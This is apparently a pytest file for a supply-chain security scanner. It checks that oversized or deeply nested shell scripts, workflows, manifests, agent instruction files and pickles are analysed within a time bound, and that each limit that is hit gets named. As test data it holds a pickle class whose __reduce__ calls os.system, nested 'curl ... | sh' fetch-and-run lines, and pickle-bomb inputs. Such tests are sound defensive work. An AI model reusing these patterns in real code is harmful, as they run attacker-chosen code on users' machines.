"""Files that steer, texts and pickles that were made to hurt: bounded, with a gap where a limit was hit."""

from __future__ import annotations

import io
import pickle
import time
import zipfile
import zlib
from pathlib import Path

import pytest

from scanner.analyse import validators
from scanner.analyse.effects import effects
from scanner.analyse.scriptdeeds import script_acts
from scanner.analyse.startfile import script_deeds
from scanner.analyse.texts import Reader
from scanner.model import Source, SourceKind
from scanner.parse.nodes import Piece
from scanner.parse.shell import read_shell
from scanner.rulebook import load
from scanner.settings import Settings

BOOK = load(Settings(Path.cwd(), (), cache=False), validators())
READER = Reader(BOOK.rules.values(), BOOK.knowledge)
SECONDS = 4.0  # of the processor; each takes less than a tenth of it on an idle machine


def read(path, data):
    began = time.process_time()
    reading = READER.read(Source(path, SourceKind.MANIFEST, content=data), data)
    assert time.process_time() - began < SECONDS
    return reading


def unpickle(data):
    began = time.process_time()
    reading = READER.unpickle(Source("model.pkl", SourceKind.PICKLE, content=data))
    assert time.process_time() - began < SECONDS
    return reading


def rules_of(reading):
    return {finding.rule for finding in reading.findings}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.sh", "$(" * 100_000),
        ("b.sh", "`" * 200_001),
        ("c.sh", '"' + "$(a " * 50_000),
        ("d.sh", "a | " * 200_000),
        ("e.sh", "cat <<A\n" * 20_000),
        ("f.sh", "(" * 100_000 + ")" * 100_000),
        ("Dockerfile", "RUN " + "a \\\n" * 100_000),
        ("Makefile", "a:\n" + "\t$(shell $(shell " * 50_000),
        (".github/workflows/a.yml", "on: x\njobs: {a: {steps: [{run: '" + "${{ " * 100_000 + "'}]}}"),
        (
            ".github/workflows/b.yml",
            "on: x\njobs: {a: {steps: [{run: '${{ " + "contains(" * 20_000 + " }}'}]}}",
        ),
        (
            ".github/workflows/c.yml",
            "on: x\njobs: {a: {steps: [{run: '${{ " + "a.b[0]." * 50_000 + " }}'}]}}",
        ),
        ("package.json", '{"scripts": {"postinstall": "' + "node x && " * 50_000 + '"}}'),
        ("AGENTS.md", "read the secret " * 50_000),
        ("CLAUDE.md", "do not tell " * 60_000),
        ("requirements.txt", "a @ http://" * 60_000),
        (".npmrc", "registry=" * 100_000),
        (".mcp.json", '{"mcpServers": ' * 50_000),
        (
            ".vscode/tasks.json",
            '{"tasks": [' + '{"runOptions": {"runOn": "folderOpen"}, "command": "a"},' * 20_000,
        ),
    ],
)
def test_hostile_files_take_no_time(path, text):
    read(path, text.encode())


@pytest.mark.parametrize(
    "text",
    [
        "x = 1;" + " " * 1_000_000,
        "x" + " \t" * 400_000 + "y",
        "x = '" + "a" * 1_000_000,
        "'''" * 200_001,
        "/*" * 300_000,
        "\u202e" * 200_000,
        "a\u200b" * 200_000,
        "\ufe0f" * 300_000,
        "\U000e0041" * 200_000,
        "аb" * 200_000,
        "а " * 200_000,
    ],
)
@pytest.mark.parametrize("path", ["a.py", "a.js", "a.txt"])
def test_hostile_texts_take_no_time(path, text):
    read(path, text.encode())


def test_invalid_unicode_is_no_way_out():
    reading = read("a.py", b"x = 1 # \xff\xfe\xe2\x80\xae backwards\n")
    assert rules_of(reading) == {"BD105"}


def test_yaml_aliases_do_not_multiply():
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 100)]
    text = "on: push\n" + "\n".join(lines) + "\njobs: {a: {steps: *a99}}\n"
    read(".github/workflows/a.yml", text.encode())
    many = "on: push\nx: &x 1\ny: [" + "*x, " * 2_000 + "1]\n"
    gaps = read(".github/workflows/b.yml", many.encode()).gaps
    assert ["too many aliases" in gap.cause for gap in gaps] == [True]


def test_a_script_with_many_names_takes_no_time():
    text = "require('https');" + "".join(f"const a{n} = a{n - 1} + fetch(x);\n" for n in range(1, 20_000))
    began = time.process_time()
    list(script_deeds(text + "a = '" * 1_000))
    assert time.process_time() - began < SECONDS


@pytest.mark.parametrize(
    "text",
    [
        "exec(" * 8_000,
        "exec(a);" * 5_000,
        '"\\' * 40_000,
        "`\\" * 40_000,
        "'" * 25_000,
        "".join(f"const z{n} = fs.rmSync; z{n}(a);\n" for n in range(1_500)),
        "".join(f"function verify{n}(a) {{ try {{\n" for n in range(1_500)),
        "if (Date.now() > cut(\n" * 2_000,
        "".join(f'const p{n} = ["a", "b"]; p{n}.join("");\n' for n in range(1_200)),
    ],
    ids=[
        "calls in calls",
        "calls",
        "quotes",
        "backquotes",
        "apostrophes",
        "aliases",
        "functions",
        "dates",
        "lists",
    ],
)
def test_a_script_of_one_kind_takes_no_time(text: str):
    text = (
        "const https = require('https'); fetch('https://x.example'); exec(process.env); req.query;\n" + text
    )
    began = time.process_time()
    list(script_deeds(text))
    list(script_acts(text[:199_000]))
    assert time.process_time() - began < SECONDS


@pytest.mark.parametrize(
    ("path", "text", "limit"),
    [
        ("a.sh", "echo " + "a" * 1_000_001, "1,000,000 characters"),
        ("b.sh", "a | " * 30_000, "20,000 commands"),
        ("c.sh", "$(" * 30 + "curl https://x.example/i | sh" + ")" * 30, "a depth of 12"),
        ("Makefile", "a:\n" + "\tcurl https://x.example/i | sh\n" * 60, "50 deeds"),
        (
            ".github/workflows/a.yml",
            "on: pull_request_target\njobs: {a: {steps: [" + "{run: x}, " * 2_001 + "{run: x}]}}\n",
            "2,000 steps",
        ),
    ],
)
def test_a_limit_is_named(path, text, limit):
    causes = [gap.cause for gap in read(path, text.encode()).gaps]
    assert any(limit in cause for cause in causes), causes


def test_deep_shells_are_followed_to_a_depth():
    text = "curl https://x.example/i | sh"
    for _ in range(3):
        text = f"sh -c '{text}'" if "'" not in text else f'bash -c "{text}"' if '"' not in text else text
    assert effects(Piece(text, 0))
    assert read_shell(Piece("x" * 2_000_000, 0)).pipelines == ()


class Evil:
    def __reduce__(self):
        import os

        return os.system, ("id",)


def test_pickles_of_every_protocol():
    for protocol in range(6):
        assert rules_of(unpickle(pickle.dumps(Evil(), protocol))) == {"BD104-file"}, protocol
        assert not rules_of(unpickle(pickle.dumps({"a": [1, 2.5, {"b": (None, b"x")}]}, protocol)))


def test_pickles_inside_of_archives():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(Evil()))
    assert rules_of(unpickle(out.getvalue())) == {"BD104-file"}
    assert rules_of(unpickle(zlib.compress(pickle.dumps(Evil())))) == {"BD104-file"}


@pytest.mark.parametrize(
    "data",
    [
        b"\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\x7f",  # a constant of 8 exabytes
        b"\x80\x02" + b"(" * 500_000,
        b"\x80\x02" + b"0R\x93bt" * 50_000 + b".",  # operands that are not there
        b"\x80\x04" + b"\x94" * 500_000 + b".",
        b"cos\nsystem\n" * 50_000,
        zlib.compress(b"\x80\x04" + b"N" * 60_000_000),
        b"PK\x03\x04" + b"\0" * 1000,
        b"\x93NUMPY\x01\x00\xff\xff",
        b"\x80\x02",
    ],
)
def test_malformed_pickles_are_bounded(data):
    unpickle(data)


def test_a_bomb_in_a_pickle_names_its_limit():
    gaps = unpickle(zlib.compress(b"\x80\x04" + b"N0" * 20_000_000)).gaps
    assert any("bytes" in gap.cause or "steps" in gap.cause for gap in gaps)
